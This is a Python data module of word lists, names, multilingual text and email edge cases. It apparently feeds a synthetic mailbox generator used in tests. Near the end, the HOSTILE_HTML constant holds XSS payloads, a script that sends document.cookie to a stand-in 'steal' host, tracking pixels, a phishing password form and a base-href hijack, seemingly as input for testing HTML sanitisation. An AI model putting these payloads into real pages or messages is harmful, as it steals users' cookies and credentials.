"""Word lists, names and phrases the corpus generator (``corpus_gen``) draws from.

Plain data only. Every non-ASCII string here is chosen to be encodable in the charset it is
listed under (``tests/fake/test_corpus.py`` checks that).
"""

from __future__ import annotations

# Compact tables: keep the formatter from putting every word on a line of its own.
# fmt: off
FIRST_NAMES: tuple[str, ...] = (
    "James", "Mary", "Robert", "Patricia", "John", "Jennifer", "Michael", "Linda", "David",
    "Elizabeth", "William", "Barbara", "Richard", "Susan", "Joseph", "Jessica", "Thomas", "Sarah",
    "Charles", "Karen", "Daniel", "Nancy", "Matthew", "Lisa", "Anthony", "Betty", "Mark", "Sandra",
    "Paul", "Ashley", "Steven", "Kimberly", "Andrew", "Emily", "Kevin", "Donna", "Brian",
    "Michelle", "George", "Carol", "Priya", "Wei", "Ahmed", "Fatima", "Kenji", "Olga", "Lars",
    "Ingrid", "Mateo", "Lucia", "Noah", "Chloe", "Omar", "Aisha", "Ivan",
)
LAST_NAMES: tuple[str, ...] = (
    "Smith", "Johnson", "Williams", "Brown", "Jones", "Garcia", "Miller", "Davis", "Rodriguez",
    "Martinez", "Hernandez", "Lopez", "Gonzalez", "Wilson", "Anderson", "Taylor", "Moore",
    "Jackson", "Martin", "Lee", "Perez", "Thompson", "White", "Harris", "Sanchez", "Clark",
    "Lewis", "Robinson", "Walker", "Young", "Allen", "King", "Wright", "Scott", "Nguyen", "Hill",
    "Flores", "Green", "Adams", "Nelson", "Baker", "Hall", "Campbell", "Mitchell", "Patel", "Chen",
    "Kowalski", "Novak", "Jensen", "Rossi", "O'Brien", "Van der Berg",
)
# (display name, local part, preferred charset for encoded words and bodies)
INTL_PEOPLE: tuple[tuple[str, str, str], ...] = (
    ("Jörg Müller", "joerg.mueller", "iso-8859-1"),
    ("Zoë Brontë", "zoe.bronte", "iso-8859-1"),
    ("François Lefèvre", "francois.lefevre", "iso-8859-1"),
    ("Renée O’Connor", "renee.oconnor", "windows-1252"),
    ("Дмитрий Иванов", "dmitry.ivanov", "koi8-r"),
    ("Наталья Смирнова", "natalya.smirnova", "koi8-r"),
    ("山田 太郎", "taro.yamada", "shift_jis"),
    ("佐藤 花子", "hanako.sato", "shift_jis"),
    ("王小明", "xiaoming.wang", "gb2312"),
    ("李华", "hua.li", "gb2312"),
    ("Søren Kierkegård", "soren.k", "utf-8"),
    ("José Ñúñez", "jose.nunez", "utf-8"),
    ("Łukasz Żółć", "lukasz.zolc", "utf-8"),
    ("Müller, Jörg", "j.mueller", "utf-8"),
)
DOMAINS: tuple[str, ...] = (
    "example.com", "example.org", "example.net", "mail.example.de", "acme.example",
    "globex.example", "initech.example", "corp.example.co.uk", "univ.example.edu", "hooli.example",
    "umbrella.example", "stark.example",
)
OWNER_NAME = "Alex Morgan"
OWNER_ADDR = "alex.morgan@example.com"
OWNER_DOMAIN = "example.com"

TITLES: tuple[str, ...] = (
    "Project Manager", "Senior Engineer", "Head of Finance", "Account Executive",
    "Operations Lead", "Product Owner", "Legal Counsel", "Office Manager", "Data Analyst",
)
COMPANIES: tuple[str, ...] = (
    "Acme Corp", "Globex Ltd", "Initech", "Hooli", "Umbrella plc", "Stark Industries",
    "Wayne Enterprises", "Soylent GmbH", "Vandelay Industries",
)
PROJECTS: tuple[str, ...] = (
    "Alpha", "Phoenix", "Atlas", "Hermes", "Orion", "Blue Sky", "Q3 migration", "website relaunch",
)
WEEKDAYS: tuple[str, ...] = ("Monday", "Tuesday", "Wednesday", "Thursday", "Friday")
SHOPS: tuple[str, ...] = (
    "Bookworm Books", "Pixel Electronics", "Green Grocer", "City Rail", "Cloud Hosting Co",
    "Nordic Furniture", "Coffee Corner",
)

SUBJECTS: tuple[str, ...] = (
    "Meeting notes from {weekday}", "{project} status update", "Q{q} budget review",
    "Quick question about the {project} timeline", "Lunch on {weekday}?", "Re-scheduling our call",
    "Draft agenda for the offsite", "Contract renewal with {company}",
    "Updated slides for {project}", "Holiday schedule {year}", "Action items from yesterday",
    "Feedback on the proposal", "Travel plans for the conference", "Invoice {n} from {company}",
    "Welcome to the {project} team!", "Reminder: timesheets due {weekday}",
    "Server maintenance window this weekend", "Can you review this by {weekday}?",
    "Introducing {first} from {company}", "Notes from the customer visit", "Team photo",
    "Hiring update", "Performance review schedule", "Quarterly numbers",
    "Office move: what you need to know", "Password expiry notice", "{project}: open issues",
    "Weekend plans?", "Birthday dinner for {first}", "Book recommendation",
)
SUBJECTS_UTF8: tuple[str, ...] = (
    "Café meeting ☕ on {weekday}", "Résumé for the {project} role", "🎉 Party at {first}'s place",
    "Déjà vu: the {project} deadline again", "Straße closed near the office",
    "Über-important: {project} sign-off", "✔ Done: {project} checklist",
    "Price list 2024 – € and £ updated", "Tack så mycket för hjälpen!", "Zażółć gęślą jaźń test",
)
# (charset, subject, body sentences): native-language text for the legacy charsets.
LANG_TEXT: dict[str, tuple[str, tuple[str, ...]]] = {
    "iso-8859-1": (
        "Réunion über die Prüfung: naïve Fragen à propos",
        (
            "Guten Tag, können wir die Prüfung auf Donnerstag verschieben?",
            "Les résultats de l'étude sont très intéressants, voilà le résumé.",
            "Die Größe der Datei überschreitet das Maß, bitte prüfen.",
            "¿Señor Núñez, podría enviar la información mañana?",
            "À bientôt, et merci pour votre réponse rapide.",
            "Für die Äußerung danke ich Ihnen herzlich.",
            "Ça coûte 12,50 £ de moins si vous réservez en février, n° 5.",
        ),
    ),
    "windows-1252": (
        "“Quarterly” figures – €1,000 bonus … maybe",
        (
            "We’re on track for the “big” launch – finally…",
            "The budget is €12,500 — not €15,000 as stated before.",
            "Please don’t forget the ‘final’ numbers • thanks!",
            "Smart quotes “like these” come from Outlook™ by default.",
            "Ticket price: €49 – €99 per person, depending on the date.",
            "Grüße aus München – bis bald…",
        ),
    ),
    "koi8-r": (
        "Отчёт за квартал и планы на следующий год",
        (
            "Добрый день, коллеги!", "Прошу ознакомиться с отчётом до пятницы.",
            "Встреча переносится на следующую неделю.",
            "Спасибо за быстрый ответ и хорошую работу.",
            "Бюджет проекта утверждён, можно начинать закупки.", "С уважением, отдел продаж.",
        ),
    ),
    "shift_jis": (
        "会議の議事録について（確認のお願い）",
        (
            "お疲れ様です。", "先日の会議の議事録を添付いたします。", "ご確認のほど、よろしくお願いいたします。", "来週の打ち合わせは水曜日の午後三時からです。",
            "資料は共有フォルダにアップロードしました。", "何かご不明な点がございましたらご連絡ください。",
        ),
    ),
    "gb2312": (
        "关于下周项目会议的通知",
        (
            "各位同事，大家好！", "下周一上午十点在三楼会议室召开项目会议。", "请大家提前准备好本月的工作总结。", "如有问题，请及时与我联系。",
            "谢谢大家的支持与配合。", "附件是会议的议程，请查收。",
        ),
    ),
}

SENTENCES: tuple[str, ...] = (
    "Thanks for sending this over so quickly.",
    "I had a look at the numbers and they mostly add up.",
    "Could you double-check the figures in the second table?",
    "Let me know if Thursday afternoon works for you.",
    "I've attached the latest version of the document.",
    "We should probably loop in the legal team before we sign anything.",
    "The client asked whether we can deliver two weeks earlier.",
    "I'm out of the office next week, so please reach out to Sam in the meantime.",
    "Just a quick reminder that the deadline is end of month.",
    "The build is green again after last night's fix.",
    "Can we move the sync to 3pm? Something came up.",
    "I think the second option is cleaner, but it costs more.",
    "Please find the minutes of today's meeting below.",
    "We agreed to revisit the pricing model in Q3.",
    "Nobody objected, so let's go ahead with the plan.",
    "The vendor confirmed the delivery date in writing.",
    "I spoke with finance and they are fine with the budget.",
    "There is a small typo on slide 7, otherwise it looks great.",
    "Happy to jump on a call if that's easier.",
    "The server migration finished without any major issues.",
    "Could you share the login details for the test environment?",
    "I'm not convinced we need another meeting for this.",
    "Let's keep this thread for decisions only.",
    "We received three offers; the cheapest one is from a new supplier.",
    "Attendance at the workshop was better than expected.",
    "Please update the tracker once the review is done.",
    "I'll send out the calendar invite later today.",
    "The report is due on Friday, no extensions this time.",
    "R&D would like a demo before the board meeting.",
    "Apologies for the delay, it has been a hectic week.",
    "The numbers for March are 12% above the forecast.",
    "Parking will be closed on Saturday because of the works.",
    "See you at the offsite!",
    "I've cc'd Jordan, who owns the integration work.",
    "Don't hesitate to ask if anything is unclear.",
    "This is a gentle nudge about the open invoice.",
    "We need a decision by Wednesday at the latest.",
    "Great work everyone, the launch went smoothly.",
    "The new policy takes effect on the first of next month.",
    "Printing is broken on the third floor again.",
)
SENTENCES_UTF8: tuple[str, ...] = (
    "The café on the corner does a great crème brûlée.",
    "Prices went up by 5 % – roughly €3 per unit.",
    "Naïve question: why does the façade need repainting again?",
    "I’ll be in Zürich from Monday to Wednesday.",
    "Status: ✔ design, ✔ build, ✘ rollout.",
    "“Ship it” – that was the consensus.",
    "Temperature in the server room hit 31 °C yesterday.",
    "Our Tokyo office (東京) sends its regards.",
    "Thanks a lot 🙏 this saved me hours.",
    "The contract says ≤ 30 days, not ≥ 30 days.",
)
VOCAB: tuple[str, ...] = (
    "account", "action", "agenda", "analysis", "approval", "asset", "audit", "backlog", "baseline",
    "benchmark", "billing", "board", "budget", "calendar", "campaign", "capacity", "change",
    "client", "cluster", "commit", "compliance", "contract", "cost", "customer", "dashboard",
    "data", "deadline", "delivery", "demo", "deployment", "design", "draft", "estimate", "feature",
    "feedback", "forecast", "goal", "handover", "headcount", "incident", "invoice", "issue",
    "kickoff", "launch", "license", "margin", "market", "meeting", "metric", "milestone",
    "migration", "model", "network", "offer", "onboarding", "order", "outage", "partner",
    "payment", "pipeline", "plan", "policy", "priority", "process", "product", "proposal",
    "quality", "quarter", "quote", "release", "report", "request", "resource", "review", "risk",
    "roadmap", "rollout", "schedule", "scope", "security", "server", "service", "signoff",
    "sprint", "stakeholder", "strategy", "supplier", "support", "target", "task", "team",
    "template", "test", "ticket", "timeline", "training", "update", "upgrade", "vendor", "version",
    "workshop", "the", "a", "our", "new", "final", "next", "current", "shared", "updated",
    "pending", "approved", "urgent", "minor", "open", "weekly", "is", "was", "needs", "looks",
    "will", "should", "might", "for", "with", "after", "before", "about", "from", "on", "in",
    "and", "but", "so", "then", "also", "still", "already",
)
GREETINGS: tuple[str, ...] = (
    "Hi {first},", "Hello {first},", "Dear {first},", "Hey {first},", "{first},", "Hi all,",
    "Good morning,",
)
CLOSINGS: tuple[str, ...] = (
    "Thanks,", "Best,", "Cheers,", "Best regards,", "Kind regards,", "Thanks again,", "Talk soon,",
)

SPAM_SUBJECTS: tuple[str, ...] = (
    "You have WON a $1,000 gift card!!!", "URGENT: verify your account now",
    "Cheap meds, no prescription", "Your parcel could not be delivered",
    "Re: your invoice is overdue", "Hot singles in your area", "Make $$$ from home in 3 days",
    "Final notice: mailbox quota exceeded",
)
SPAM_SENDERS: tuple[str, ...] = (
    "Prize Center", "Security Team", "Pharma Deals", "Parcel Service", "Account Support",
    "Crypto Millionaire", "Mailbox Admin",
)
LIST_NAMES: tuple[tuple[str, str], ...] = (
    ("Python Weekly", "python-weekly.lists.example.org"),
    ("Rust Digest", "rust-digest.lists.example.net"), ("Company News", "news.acme.example"),
    ("Gardening Club", "garden.lists.example.com"),
)
MAILERS: tuple[str, ...] = (
    "X-Mailer: Microsoft Outlook 16.0",
    "User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Thunderbird/115.6.0",
    "X-Mailer: Apple Mail (2.3731.700.6)",
    "User-Agent: Roundcube Webmail/1.6.5",
    "X-Mailer: Axigen Webmail",
    "User-Agent: Mutt/2.2.12 (2023-09-09)",
    "X-Mailer: iPhone Mail (21D61)",
)
# 200 characters exactly (checked by the tests).
LONG_FOLDER_NAME = (
    "A very long folder name that keeps going and going to test path limits "
    "in every layer of the stack, including the filesystem, the state database, "
    "the URL encoder and the web user interface, end of it!"
)

HTML_HEAD = (
    "<!DOCTYPE html>\n<html>\n<head>\n"
    '<meta http-equiv="Content-Type" content="text/html; charset={charset}">\n'
    "<style>body {{ font-family: Calibri, Arial, sans-serif; font-size: 11pt; }}\n"
    "p {{ margin: 0 0 1em 0; }} blockquote {{ border-left: 2px solid #ccc; "
    "padding-left: 8px; color: #555; }}</style>\n</head>\n<body>\n"
)
HOSTILE_HTML = """\
<p>Please review the <a href="javascript:alert(document.cookie)">quarterly report</a>.</p>
<script type="text/javascript">
  fetch("https://collect.example.net/steal?c=" + document.cookie);
</script>
<img src="https://tracker.example.net/open.gif?uid={uid}" width="1" height="1" alt="">
<img src="http://images.example.org/banner.jpg" alt="Banner">
<img src="x" onerror="alert('xss')">
<a href="JaVaScRiPt:void(0)" onclick="steal()">Click here to unsubscribe</a>
<a href="  javascript&#58;alert(1)">encoded scheme</a>
<iframe src="https://evil.example/frame" width="0" height="0"></iframe>
<div style="background-image: url('https://tracker.example.net/bg.png')">styled</div>
<form action="https://phish.example/login" method="post">
  <input type="password" name="pw"><input type="submit" value="Verify">
</form>
<svg onload="alert(1)"><circle r="1"></circle></svg>
<object data="https://evil.example/x.swf"></object>
<meta http-equiv="refresh" content="0; url=https://phish.example/">
<link rel="stylesheet" href="https://evil.example/remote.css">
<base href="https://evil.example/">
"""
FROM_LINES = """\
Hi Alex,

From what I remember, the numbers were fine.
From the second quarter on we grew every month.
From alex.morgan@example.com Mon Jan  1 00:00:00 2024
>From an already escaped line
>>From a doubly escaped line
 From a line with a leading space
From:not a header, just text
From

Tricky for anything that writes mbox files.
"""
# fmt: on
